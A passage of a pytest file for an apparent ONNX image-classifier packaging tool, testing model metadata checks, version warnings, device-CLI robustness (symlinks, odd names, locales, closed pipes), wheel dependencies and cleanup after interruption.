    pre["height"] = pre["width"] = 96  # says 96 px; the graph takes 32
    set_metadata(m, {K.PREPROCESS: json.dumps(pre)})
    onnx.save(m, str(tmp_path / "lying.onnx"))
    for runtime in ("onnxruntime", "openvino"):
        with pytest.raises(ModelFormatError, match=r"graph takes input .*32, 32, 3.*\(N, 96, 96, 3\)"):
            Classifier.from_path(tmp_path / "lying.onnx", runtime=runtime)
    # a hand-edited contract with a key removed loaded with a default (mean 127 where the model needs its own)
    del pre["mean"]
    pre["height"] = pre["width"] = 32
    set_metadata(m, {K.PREPROCESS: json.dumps(pre)})
    onnx.save(m, str(tmp_path / "edited.onnx"))
    with pytest.raises(ModelFormatError, match=r"metadata 'edgemap.preprocess' invalid .*missing 'mean'"):
        Classifier.from_path(tmp_path / "edited.onnx")


def test_a_model_exported_with_another_pillow_series_is_warned_about(tiny: dict, tmp_path: Path, capsys) -> None:  # noqa: ANN001
    """Pillow 13 resizes ~20% of images 1 level differently from 12 (Lite0 logits up to 0.09 apart); 10.3-11.1 ignore
    XMP-only orientation. The wheel asks for the exporting series; a model loaded otherwise says so."""
    import warnings

    import onnx
    import PIL

    from edgemap.export.onnx_export import set_metadata
    from edgemap.runtime import metadata as K
    from edgemap.runtime.classifier import PillowVersionWarning
    from edgemap.runtime.device_cli import main as device_main
    from edgemap.runtime.onnx_meta import pillow_mismatch

    other = f"{int(PIL.__version__.split('.')[0]) - 1}.0.0"
    m = onnx.load(str(tiny["model"]))
    versions = json.loads({p.key: p.value for p in m.metadata_props}.get(K.VERSIONS, "{}"))
    set_metadata(m, {K.VERSIONS: json.dumps({**versions, "pillow": other})})
    onnx.save(m, str(tmp_path / "older.onnx"))
    meta = read_model_meta(tmp_path / "older.onnx")
    assert pillow_mismatch(meta, other.replace(".0.0", ".2.1")) is None  # the same major release
    assert f"exported (evaluated, calibrated) with Pillow {other}" in pillow_mismatch(meta)
    with pytest.warns(PillowVersionWarning, match=f"pip install 'pillow>={other[:-2]},<"):
        Classifier.from_path(tmp_path / "older.onnx")
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # the model as exported here: nothing to say
        Classifier.from_path(tiny["model"])
    capsys.readouterr()
    assert device_main([str(tmp_path / "older.onnx"), str(tiny["val"][0])], prog="dev") == 0
    err = capsys.readouterr().err
    assert err.count("dev: warning: ") == 1 and f"with Pillow {other}" in err and "UserWarning" not in err, err


@pytest.mark.parametrize(("kwargs", "message"), [({"threads": 0}, "threads must be a whole number >= 1 or None, not 0"),
                                                 ({"threads": "2"}, "threads must be"),
                                                 ({"top_k": 0}, "top_k must be a whole number >= 1, not 0"),
                                                 ({"max_pixels": 0}, "max_pixels must be"),
                                                 ({"max_pixels": 1.5}, "max_pixels must be")])
def test_classifier_options_are_checked_when_loading(tiny: dict, kwargs: dict, message: str) -> None:
    """max_pixels=0 loaded, then refused every image ("exceeds the limit of 0"); threads="2" was a pybind TypeError."""
    from edgemap.errors import OptionError

    with pytest.raises(OptionError, match=message):
        Classifier.from_path(tiny["model"], **kwargs)


def test_qoperator_model_on_openvino_is_refused_with_the_fix(exported: dict, tmp_path: Path, capsys) -> None:  # noqa: ANN001
    from edgemap.runtime.device_cli import main

    qop = exported["run"].artifact_path("onnx_int8_qoperator")
    with pytest.raises(ModelFormatError, match="QOperator.*model.int8.qdq.onnx"):
        Classifier.from_path(qop, runtime="openvino")
    # the generic edgemap-runtime CLI of the OpenVINO wheel defaults to openvino (it has no onnxruntime)
    img = exported["val"][0]
    assert main([str(qop), str(img)], default_runtime="openvino") == 2
    assert "QOperator" in capsys.readouterr().err
    qdq = str(exported["run"].artifact_path("onnx_int8_qdq"))
    assert main([qdq, str(img), "--json"], default_runtime="openvino") == 0
    capsys.readouterr()
    assert main([qdq, str(img), "--max-pixels", "100"], default_runtime="openvino") == 1  # the image is refused...
    assert "exceeds the limit of 100" in capsys.readouterr().err  # ...by the limit asked for


def test_device_cli_streams_lists_folders_like_training_and_stops_on_a_closed_pipe(tiny: dict, tmp_path: Path) -> None:
    """`run-classifier FOLDER | head -1`: lines come as batches finish, a closed pipe ends it quietly (141);
    a folder is listed as the dataset scan lists it (symlinked folders followed, hidden/other files skipped)."""
    import shutil
    import sys

    from edgemap.data.scan import scan_labelled
    from edgemap.runtime.device_cli import expand_images

    data = tmp_path / "imgs"
    shutil.copytree(tiny["data"] / "val", data / "val")
    outside = tmp_path / "outside"
    outside.mkdir()
    shutil.copy(tiny["val"][0], outside / "linked.png")
    cls = sorted(p for p in (data / "val").iterdir())[0]
    (cls / "more").symlink_to(outside, target_is_directory=True)
    (cls / "loop").symlink_to(cls, target_is_directory=True)  # a link back into the tree is listed once
    (cls / "x.ppm").write_bytes((outside / "linked.png").read_bytes())  # not an image extension training reads
    (cls / "._x.png").write_bytes(b"AppleDouble")
    listed = sorted(str(p) for p in expand_images([data / "val"]))
    scanned = sorted(str(p) for p, _ in scan_labelled(data).samples)
    assert listed == scanned and any("linked.png" in p for p in listed)
    for i in range(40):
        shutil.copy(tiny["val"][0], data / "val" / cls.name / f"copy{i}.png")
    proc = subprocess.Popen([sys.executable, "-m", "edgemap.runtime.device_cli", str(tiny["model"]), str(data),
                             "--batch-size", "2"], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    first = proc.stdout.readline()  # streamed: the first batch is printed before the others are classified
    proc.stdout.close()
    err = proc.stderr.read()
    assert proc.wait(timeout=120) == 141 and first.count("\t") >= 2, (first, err)
    assert "Traceback" not in err and "BrokenPipe" not in err, err
    # --json is one document: written in one piece, a reader that stopped early (| head -c) left it short with exit 0
    proc = subprocess.Popen([sys.executable, "-m", "edgemap.runtime.device_cli", str(tiny["model"]), *[str(data)] * 12,
                             "--json"], stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    assert proc.stdout.read(10).startswith(b"[")
    proc.stdout.close()
    err = proc.stderr.read().decode()
    assert proc.wait(timeout=120) == 141 and "Traceback" not in err, err


def test_device_cli_names_a_folder_it_cannot_list(tiny: dict, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A sub-folder the device user may not read was skipped without a word (exit 0, its images unclassified); an
    unreadable top folder was "holds no image files"."""
    import os

    from edgemap.runtime.device_cli import list_images

    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    shutil.copy(tiny["val"][0], tmp_path / "a" / "0.png")
    shutil.copy(tiny["val"][0], tmp_path / "b" / "1.png")
    real = os.scandir

    def scandir(path):  # noqa: ANN001, ANN202 - as for a folder of mode 700 owned by someone else
        if os.fspath(path) == str(tmp_path / "b"):
            raise PermissionError(13, "Permission denied", os.fspath(path))
        return real(path)

    monkeypatch.setattr(os, "scandir", scandir)
    listing = list_images([tmp_path])
    assert listing.images == [tmp_path / "a" / "0.png"]
    assert listing.problems == [(tmp_path / "b", f"{tmp_path / 'b'}: cannot list folder (Permission denied)")]
    listing = list_images([tmp_path / "b"])
    assert listing.images == [] and listing.problems == [
        (tmp_path / "b", f"{tmp_path / 'b'}: cannot list folder (Permission denied)")]


def test_device_cli_does_not_climb_a_link_to_a_folder_above(tmp_path: Path) -> None:
    """With ds/cat/loop -> .. in place, `classifier ds/cat` classified the dog images too (ds/cat/loop/dog/...):
    training skips such a link, and its class held only the cat images."""
    import os

    from edgemap.runtime.device_cli import list_images

    for cls in ("cat", "dog"):
        (tmp_path / "ds" / cls / "more").mkdir(parents=True)
        (tmp_path / "ds" / cls / "0.png").write_bytes(b"x")
        (tmp_path / "ds" / cls / "more" / "1.png").write_bytes(b"x")
    os.symlink("..", tmp_path / "ds" / "cat" / "loop")
    os.symlink(".", tmp_path / "ds" / "cat" / "more" / "self")
    os.symlink(tmp_path / "ds" / "dog" / "more", tmp_path / "ds" / "cat" / "elsewhere")  # sideways: still followed
    listing = list_images([tmp_path / "ds" / "cat"])
    assert [p.relative_to(tmp_path / "ds" / "cat").as_posix() for p in listing.images] == [
        "0.png", "elsewhere/1.png", "more/1.png"], listing.images
    assert listing.upward_links == 1 and "1 link(s) to the folder itself or a folder above it skipped" in listing.skipped_note()


def test_device_cli_json_under_any_locale_and_warnings_made_errors(tiny: dict, tmp_path: Path) -> None:
    """--json under an ascii/cp1252 stdout wrote Python escapes ("\\xe9"), invalid JSON; garbage on stdin was named
    "<bytes>" with an object address; with PYTHONWARNINGS=error a corrupt-EXIF image took the whole batch down."""
    import os
    import sys

    from test_preprocess import _corrupt_exif_jpeg

    img = tiny["val"][0].read_bytes()
    (tmp_path / "café.png").write_bytes(img)
    _corrupt_exif_jpeg(tmp_path / "exif.jpg", 3)
    base = [sys.executable, "-m", "edgemap.runtime.device_cli", str(tiny["model"])]
    for enc in ("ascii", "cp1252"):
        r = subprocess.run([*base, str(tmp_path / "café.png"), "--json"], capture_output=True, timeout=120,
                           env={**os.environ, "PYTHONIOENCODING": enc})
        assert r.returncode == 0 and json.loads(r.stdout)[0]["image"].endswith("café.png"), r.stdout
    r = subprocess.run([*base, "-"], input=b"\x00garbage" * 10, capture_output=True, timeout=120)
    err = r.stderr.decode()
    assert r.returncode == 1 and "error: -: not a readable image" in err and "0x" not in err, err
    r = subprocess.run([*base, str(tmp_path / "exif.jpg"), str(tmp_path / "café.png")], capture_output=True,
                       timeout=120, env={**os.environ, "PYTHONWARNINGS": "error", "PYTHONIOENCODING": "utf-8"})
    out, err = r.stdout.decode(), r.stderr.decode()
    assert r.returncode == 1 and "exif.jpg: refused: Pillow warned" in err and "Traceback" not in err, err
    assert "café.png" in out  # the other image still classified


def test_device_cli_survives_odd_names_empty_folders_other_files_and_stdin(tiny: dict, tmp_path: Path) -> None:
    """A file name that is not UTF-8 crashed the output (every result lost, exit 1); a folder without images stopped
    everything (exit 2); files of other extensions vanished without a word; `-` was "file not found"; a FIFO named
    *.png in a folder hung the command."""
    import os
    import sys

    img = tiny["val"][0].read_bytes()
    odd = tmp_path / "odd"
    odd.mkdir()
    with open(os.fsencode(odd) + b"/caf\xe9.png", "wb") as f:  # a Latin-1 name from an SMB share
        f.write(img)
    (odd / "IMG_1.heic").write_bytes(b"not read")
    os.mkfifo(odd / "pipe.png")  # no writer: reading it would wait forever
    (tmp_path / "empty").mkdir()
    (tmp_path / "empty2").mkdir()
    env = {**os.environ, "PYTHONIOENCODING": "utf-8"}  # a strict UTF-8 stdout, as on most devices
    args = [sys.executable, "-m", "edgemap.runtime.device_cli", str(tiny["model"]), str(odd), str(tmp_path / "empty"),
            str(tmp_path / "empty2"), "-"]
    r = subprocess.run([*args, "--json"], input=img, capture_output=True, env=env, timeout=120)
    assert r.returncode == 1, r.stderr  # two problems (the empty folders); the images still ran
    rows = json.loads(r.stdout.decode("utf-8"))  # valid UTF-8 JSON
    # in the order of the arguments (the folders' errors came first)
    assert [row["image"].rsplit("/", 1)[-1] for row in rows] == ["caf\\xe9.png", "empty", "empty2", "-"]
    assert all("folder holds no image files" in rows[i]["error"] for i in (1, 2))
    assert all("label" in rows[i] for i in (0, 3))
    err = r.stderr.decode("utf-8")
    assert "note: 1 file(s) in the folders skipped: not an image extension (.heic 1)" in err and "Traceback" not in err
    assert "1 entry with an image name in the folders skipped: not a regular file" in err
    r = subprocess.run(args, input=img, capture_output=True, env=env, timeout=120)
    lines = r.stdout.decode("utf-8").splitlines()
    assert r.returncode == 1 and len(lines) == 2 and lines[0].split("\t")[0].endswith("caf\\xe9.png"), r.stderr
    (tmp_path / "-").write_bytes(img)  # a file named "-" is ./-, not stdin
    r = subprocess.run([*args[:4], "./-"], stdin=subprocess.DEVNULL, capture_output=True, env=env, timeout=120,
                       cwd=tmp_path)
    assert r.returncode == 0 and r.stdout.decode().startswith("-\t"), r.stderr


def test_device_cli_help_names_the_runtimes_of_its_model_and_survives_a_broken_model_json(
        exported: dict, tmp_path: Path, capsys) -> None:  # noqa: ANN001
    from edgemap.runtime.device_cli import main

    pkg = tmp_path / "pkg"
    with zipfile.ZipFile(exported["model"].wheel) as z:
        z.extractall(pkg)
    folder = pkg / exported["model"].module
    with pytest.raises(SystemExit):
        main(["--help"], package_dir=folder, prog="tiny-clf")
    out = " ".join(capsys.readouterr().out.split())
    assert "--runtime RUNTIME onnxruntime (default onnxruntime)" in out  # a QOperator model: ORT only
    assert main([str(exported["val"][0]), "--runtime", "tflite"], package_dir=folder) == 2
    assert "unknown runtime 'tflite'; choose from onnxruntime, openvino[:DEVICE], cuda, tensorrt" in capsys.readouterr().err
    (folder / "model.json").write_text("{ not json")
    with pytest.raises(SystemExit):
        main(["--help"], package_dir=folder, prog="tiny-clf")  # still answers
    assert "Classify images" in capsys.readouterr().out
    assert main([str(exported["val"][0])], package_dir=folder) == 2
    assert "model.json" in capsys.readouterr().err


def test_rebuilding_a_wheel_warns_only_when_its_contents_change(exported: dict, tmp_path: Path) -> None:
    """Same name and version, other contents: pip keeps the version a device already has, so say so."""
    run = exported["run"]
    first = package(run.path, PackageOptions(name="same-clf", version="1.0", out=tmp_path))
    again = package(run.path, PackageOptions(name="same-clf", version="1.0", out=tmp_path))
    assert not first.replaced and not again.replaced  # the same contents (only zip timestamps differ)
    other = package(run.path, PackageOptions(name="same-clf", version="1.0", out=tmp_path, runtime="openvino"))
    assert other.replaced and other.wheel == first.wheel and other.to_dict()["replaced"] is True
    # with the default version another model is another version: a wheel of its own, nothing replaced
    a = package(run.path, PackageOptions(name="same-clf", out=tmp_path))
    b = package(run.path, PackageOptions(name="same-clf", out=tmp_path, runtime="openvino"))
    assert not b.replaced and a.wheel != b.wheel and a.wheel.is_file()
    # the openvino wheel asks for other packages than the onnxruntime one it replaced: no --no-deps (pip check failed)
    w = shlex.quote(str(other.wheel))  # --force-reinstall alone upgraded every dependency too: the wheel alone, then
    assert other.pip_install == f"pip install --force-reinstall --no-deps {w} && pip install {w}"  # what it adds
    assert "--force" not in first.pip_install
    assert other.replaced_requirements
    same_deps = package(run.path, PackageOptions(name="same-clf", version="1.0", out=tmp_path, runtime="openvino",
                                                 precision="fp32"))  # another model, the same requirements
    assert same_deps.replaced and not same_deps.replaced_requirements
    assert same_deps.pip_install == f"pip install --force-reinstall --no-deps {shlex.quote(str(same_deps.wheel))}"


def test_card_and_report_numbers_survive_hostile_values() -> None:
    """A hand-edited 4,299-digit accuracy (valid JSON) made `package` fail with "Exceeds the limit (4300 digits)"."""
    from edgemap.package import _as_percent, _table
    from edgemap.report import _num

    rows = _as_percent([{"runtime": "cpu", "precision": "int8", "accuracy": 10**4299, "agreement": 0.5}])
    assert rows[0]["accuracy %"] is None and rows[0]["agreement %"] == "50.00"
    # a runtime that did not run is not "measured on 0 images"
    assert _as_percent([{"runtime": "cuda", "precision": "fp32", "n": 0, "status": "unavailable"}])[0]["n"] is None
    assert "| cpu | int8 |" in _table(rows, ("runtime", "precision", "accuracy %", "agreement %"))
    assert _num(10**4299) is None and _num(0.25) == 0.25


def test_the_wheel_asks_for_the_onnxruntime_its_model_needs(exported: dict, tmp_path: Path) -> None:
    """An --opset 23 model (IR 11) failed to load on the onnxruntime 1.18 that every wheel declared."""
    import shutil

    from edgemap.export import ExportOptions, export
    from edgemap.runtime.onnx_meta import OnnxInfo, onnxruntime_floor
    from edgemap.runtime.sessions import _older

    assert [onnxruntime_floor(OnnxInfo(ir, {"ai.onnx": op})) for ir, op in ((8, 17), (10, 21), (10, 22), (11, 23))] == [
        "1.18.1", "1.18.1", "1.21", "1.23"]
    assert _older("1.20.1", "1.21") and _older("1.22.0", "1.23") and not _older("1.23.2", "1.23")
    assert not _older("1.32.0+cpu", "1.23") and _older("1.9.0", "1.18")
    shutil.copytree(exported["run"].path, tmp_path / "run")
    export(tmp_path / "run", ExportOptions(opset=23))
    w = package(tmp_path / "run", PackageOptions(precision="fp32", out=tmp_path / "dist"))
    assert "onnxruntime>=1.23" in w.requirements and "onnxruntime>=1.18.1" not in w.requirements
    with zipfile.ZipFile(w.wheel) as z:
        meta = z.read(next(n for n in z.namelist() if n.endswith("METADATA"))).decode()
    assert "Requires-Dist: onnxruntime>=1.23" in meta


def test_a_cuda_wheel_asks_for_onnxruntime_gpu_and_runs_fp32_on_the_gpu_only(venv: Path, exported: dict,
                                                                          tmp_path: Path) -> None:
    """There was no GPU wheel: the onnxruntime wheel asks for `onnxruntime`, so on a device with onnxruntime-gpu pip
    added the CPU build over the same module."""
    run = exported["run"]
    # its own default name: beside the CPU wheel of the same fp32 model, `pip install -U --find-links dist NAME`
    # chose between them by the label's text (first: a --name given below is then recorded for cuda, and kept)
    assert package(run.path, PackageOptions(runtime="cuda", out=tmp_path / "named")).name.endswith("-classifier-cuda")
    w = package(run.path, PackageOptions(runtime="cuda", name="gpu-clf", out=tmp_path))
    assert w.precision == "fp32" and w.runtime == "cuda"  # int8 exported, but the CUDA EP has no int8 convolutions
    assert w.model_sha256 == run.artifacts["onnx_fp32"]["sha256"]
    with zipfile.ZipFile(w.wheel) as z:
        meta = z.read(f"gpu_clf-{w.version}.dist-info/METADATA").decode()
        card = z.read("gpu_clf/MODEL_CARD.md").decode()
    deps = [line.split(": ", 1)[1] for line in meta.splitlines() if line.startswith("Requires-Dist: ")]
    assert any(d.startswith("onnxruntime-gpu>=1.2") for d in deps) and not any(d.startswith("onnxruntime>") for d in deps)
    assert "replaces onnxruntime (never install both)" in card and "--runtime onnxruntime" in card
    # the install line takes out a CPU onnxruntime and puts a CUDA 12 onnxruntime-gpu first (the newest are CUDA 13)
    first = ("if pip show -q onnxruntime; then pip uninstall -y onnxruntime onnxruntime-gpu; fi; "
             "pip install 'onnxruntime-gpu>=1.20,<1.27' && ")  # both out where both are: they share files
    assert w.pip_install.startswith(first) and f"{first}pip install gpu_clf-" in card, (w.pip_install, card)
    assert subprocess.run(["bash", "-n", "-c", w.pip_install]).returncode == 0  # pastes as one shell line
    assert package(run.path, PackageOptions(runtime="cuda", out=tmp_path / "kept")).name == "gpu-clf"  # recorded
    with pytest.raises(PackageError, match="no int8 convolution kernels"):
        package(run.path, PackageOptions(runtime="cuda", precision="int8", name="gpu-clf", out=tmp_path))
    # on this machine's CPU onnxruntime (standing in for onnxruntime-gpu: --no-deps): the GPU is asked for, and said
    # missing, never run on the CPU in its place; --runtime onnxruntime runs it on the CPU as eval does
    pip_install(venv, "--no-deps", str(w.wheel))
    img = str(exported["val"][0])
    r = _run(venv, str(venv.parent / "gpu-clf"), img)
    assert r.returncode == 2 and "runtime 'cuda' unavailable:" in r.stderr and "Traceback" not in r.stderr, r.stderr
    # the way out that a device has (edgemap's own "pip install 'edgemap[cuda]'" is no use there)
    assert "--runtime onnxruntime runs this model on the CPU" in r.stderr and "edgemap[cuda]" not in r.stderr, r.stderr
    r = _run(venv, str(venv.parent / "tiny-clf"), img, "--runtime", "cuda")  # the int8 wheel: "use fp32" could not be
    assert r.returncode == 2 and "run this int8 model with --runtime onnxruntime" in r.stderr, r.stderr  # done there
    r = _run(venv, str(venv.parent / "gpu-clf"), img, "--runtime", "onnxruntime", "--json")
    assert r.returncode == 0, r.stderr
    ref = _eval_probs(run, [exported["val"][0]], "fp32")
    assert json.loads(r.stdout)[0]["label"] == run.classes[int(ref.argmax())]


@pytest.mark.parametrize("top_k", ["3", 2.0, 0, True])
def test_predict_checks_top_k(clf: Classifier, tiny: dict, top_k: object) -> None:
    """predict(top_k="3") or 2.0 was a bare TypeError from inside numpy, while load(top_k=...) said OptionError."""
    from edgemap.errors import OptionError

    with pytest.raises(OptionError, match="top_k must be a whole number >= 1"):
        clf.predict(tiny["val"][0], top_k=top_k)


def test_package_commands_sharing_a_wheelhouse_all_build(tiny: dict, tmp_path: Path) -> None:
    """Two `edgemap package` into one --out (a shared wheelhouse): one's temp-file cleanup deleted the other's wheel
    while it was being copied (FileNotFoundError traceback, 4 of 30 in a review). Writers into one folder take turns;
    a temp file left by a killed one is still cleaned up."""
    import os
    import sys

    out = tmp_path / "wh"
    out.mkdir()
    dead = out / ".old_classifier-1.0-py3-none-any.whl.ba9876543210.edgemap-tmp"
    dead.write_bytes(b"cut short by kill -9")
    runs = []
    for i in range(6):
        runs.append(tmp_path / f"r{i}")
        shutil.copytree(tiny["run"].path, runs[-1])
        d = json.loads((runs[-1] / "edgemap.json").read_text())  # six runs, six default names (no recorded --name)
        d["options"].get("run", {}).pop("package", None)
        (runs[-1] / "edgemap.json").write_text(json.dumps(d))
    for _ in range(2):
        procs = [subprocess.Popen([sys.executable, "-m", "edgemap", "package", str(r), "--out", str(out)],
                                  stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                                  env={**os.environ, "COLUMNS": "200"}) for r in runs]
        results = [(p.wait(timeout=300), p.stderr.read()) for p in procs]
        assert all(rc == 0 for rc, _ in results), [err for rc, err in results if rc]
    assert len(list(out.glob("*.whl"))) == 6 and not list(out.glob("*.edgemap-tmp"))


def test_the_cli_survives_a_stdout_that_cannot_hold_its_characters(tiny: dict, tmp_path: Path) -> None:
    """A Windows console redirected to a file (cp1252), or a latin-1 locale: `edgemap eval` crashed on the table's
    "Δ" with a traceback and exit 1, after its results were stored."""
    import os
    import sys

    run = tmp_path / "run"
    shutil.copytree(tiny["run"].path, run)
    r = subprocess.run([sys.executable, "-m", "edgemap", "eval", str(run), "--runtime", "cpu", "--precision", "fp32",
                        "--data", str(tiny["data"] / "val")],
                       capture_output=True, timeout=300, env={**os.environ, "PYTHONIOENCODING": "cp1252"})
    out = (r.stdout + r.stderr).decode("cp1252", "replace")
    assert r.returncode == 0 and "Traceback" not in out, out
    assert "\\u0394" in out or "|Δ|" in out  # escaped where the encoding lacks it


def test_a_hand_edited_parity_record_is_one_error(tiny: dict, tmp_path: Path) -> None:
    """metrics.parity = [1] made `edgemap package` fail with an AttributeError traceback."""
    run = tmp_path / "run"
    shutil.copytree(tiny["run"].path, run)
    data = json.loads((run / "edgemap.json").read_text())
    data.setdefault("metrics", {})["parity"] = [1]
    (run / "edgemap.json").write_text(json.dumps(data))
    with pytest.raises(PackageError, match="metrics.parity is not what `edgemap export` writes"):
        package(run, PackageOptions(out=tmp_path / "dist"))


def test_packaging_fp32_where_int8_exists_for_other_runtimes_is_said(tmp_path: Path) -> None:
    """`export --int8 --targets tensorrt` (or openvino) then `package`: a silent fp32 wheel, though int8 was exported."""
    from _export_fixtures import make_run, write_dataset

    from edgemap.export import ExportOptions, export

    data = write_dataset(tmp_path / "data", n_train=24, n_val=6)
    run, _ = make_run(tmp_path / "run", data, steps=20)
    export(run, ExportOptions(int8=True, targets=("openvino",), calib_size=16, max_drop=100.0))
    run = run.path
    r = package(run, PackageOptions(out=tmp_path / "dist"))
    assert r.precision == "fp32"
    assert any("the run has int8 models, but none for onnxruntime" in w and "--targets cpu" in w for w in r.warnings)
    assert not package(run, PackageOptions(runtime="openvino", out=tmp_path / "dist")).warnings


def test_a_package_interrupted_mid_build_leaves_nothing_in_tmpdir(tiny: dict, tmp_path: Path) -> None:
    """Ctrl-C while pip built the wheel: pip was killed before it removed its pip-unpack-*, pip-wheel-*... folders in
    TMPDIR (one held a copy of the wheel, the model in it), every time."""
    import os
    import signal
    import subprocess
    import sys
    import time

    tmpdir = tmp_path / "tmp"
    tmpdir.mkdir()
    env = {**os.environ, "TMPDIR": str(tmpdir)}
    proc = subprocess.Popen([sys.executable, "-m", "edgemap", "package", str(tiny["run"].path), "--out",
                             str(tmp_path / "dist")], env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    t0 = time.monotonic()
    while not list(tmpdir.rglob("pip-*")) and proc.poll() is None and time.monotonic() - t0 < 60:
        time.sleep(0.002)
    if proc.poll() is not None:
        pytest.skip("the build ended before pip made its temp folders (a fast machine)")
    proc.send_signal(signal.SIGINT)
    proc.communicate(timeout=60)
    assert proc.returncode == 130
    time.sleep(0.5)
    assert list(tmpdir.rglob("*")) == [], sorted(map(str, tmpdir.rglob("*")))[:5]
